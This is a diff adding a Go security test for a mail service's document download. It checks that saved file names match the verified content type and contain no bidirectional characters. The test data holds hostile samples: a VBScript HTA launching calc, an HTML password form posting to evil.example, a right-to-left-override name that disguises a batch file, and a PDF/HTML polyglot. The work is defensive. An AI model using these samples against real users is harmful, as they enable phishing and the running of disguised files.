@@ -1,0 +1,97 @@
+package httpui
+
+import (
+	"bytes"
+	"encoding/json"
+	"mime"
+	"mime/multipart"
+	"net/http"
+	"net/textproto"
+	"path"
+	"strings"
+	"testing"
+	"unicode"
+)
+
+// TestReviewDownloadNameMatchesType (security review): the file name a
+// resident's browser saves a document under is the sender's, with any
+// extension and any Unicode format character. Only the content is checked
+// against the declared type, so a "text/plain" document (any UTF-8 text:
+// a batch file, an HTA, a script, an HTML page with scripts that were
+// never sanitised because it was not declared HTML) is saved as
+// "….hta" or "….html" by the Download button. With U+202E (RIGHT-TO-LEFT
+// OVERRIDE, a format character that isText lets through) the letter page
+// even shows the name with a harmless-looking ending. The saved name must
+// end in the extension of the type the content was checked against, and
+// carry no bidirectional controls; refusing such a delivery is fine too.
+func TestReviewDownloadNameMatchesType(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, envOptions{})
+	e.addResident(nidAnna, "Anna Jensen")
+	s := e.addSender("Nordlys Energi", "31572294")
+	b := e.browser()
+	e.login(b, e.httpURL, nidAnna)
+
+	for _, tc := range []struct {
+		ref, name, contentType, wantExt string
+		content                         []byte
+	}{
+		{"hta", "Faktura-2026.hta", "text/plain", ".txt",
+			[]byte(`<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>`)},
+		{"html", "kvittering.html", "text/plain", ".txt",
+			[]byte(`<form action="https://evil.example/">Password: <input name=p></form><script>alert(1)</script>`)},
+		{"bidi", "Faktura\u202Efdp.bat", "text/plain", ".txt", []byte("@echo off\r\nstart calc\r\n")},
+		{"pdf polyglot", "brev.html", "application/pdf", ".pdf",
+			[]byte("%PDF-1.4\n<html><script>alert(document.domain)</script>\n%%EOF\n")},
+	} {
+		t.Run(tc.ref, func(t *testing.T) {
+			msg := letterMessage(nidAnna, "Your invoice", "review-"+tc.ref)
+			ct, body := rawNameMultipart(msg, tc.name, tc.contentType, tc.content)
+			r := e.deliverRaw(s.client, ct, body)
+			if r.StatusCode == http.StatusBadRequest || r.StatusCode == http.StatusUnsupportedMediaType {
+				return // refused at delivery: fine
+			}
+			if r.StatusCode != http.StatusCreated {
+				t.Fatalf("deliver: %d %s", r.StatusCode, r.body)
+			}
+			id := decodeJSON[struct {
+				ID string `json:"id"`
+			}](t, r).ID
+			d := e.get(b, e.httpURL+"/letters/"+id+"/documents/0?download=1")
+			if d.StatusCode != http.StatusOK {
+				t.Fatalf("download: %d", d.StatusCode)
+			}
+			_, params, err := mime.ParseMediaType(d.Header.Get("Content-Disposition"))
+			if err != nil {
+				t.Fatalf("Content-Disposition %q: %v", d.Header.Get("Content-Disposition"), err)
+			}
+			saved := params["filename"]
+			if ext := strings.ToLower(path.Ext(saved)); ext != tc.wantExt {
+				t.Errorf("a %s document is saved as %q (extension %q), want %q", tc.contentType, saved, ext, tc.wantExt)
+			}
+			if strings.IndexFunc(saved, func(r rune) bool { return unicode.Is(unicode.Cf, r) }) >= 0 {
+				t.Errorf("the saved name %q has a Unicode format (bidi) character", saved)
+			}
+		})
+	}
+}
+
+// rawNameMultipart is a delivery whose document's file name is written as
+// raw UTF-8 in the part header, as curl -F sends it (the package's
+// multipartBody quotes it with Go escapes).
+func rawNameMultipart(msg map[string]any, name, contentType string, content []byte) (string, []byte) {
+	var buf bytes.Buffer
+	w := multipart.NewWriter(&buf)
+	h := textproto.MIMEHeader{}
+	h.Set("Content-Disposition", `form-data; name="message"`)
+	h.Set("Content-Type", "application/json")
+	pw, _ := w.CreatePart(h)
+	json.NewEncoder(pw).Encode(msg)
+	h = textproto.MIMEHeader{}
+	h.Set("Content-Disposition", `form-data; name="document"; filename="`+name+`"`)
+	h.Set("Content-Type", contentType)
+	pw, _ = w.CreatePart(h)
+	pw.Write(content)
+	w.Close()
+	return w.FormDataContentType(), buf.Bytes()
+}
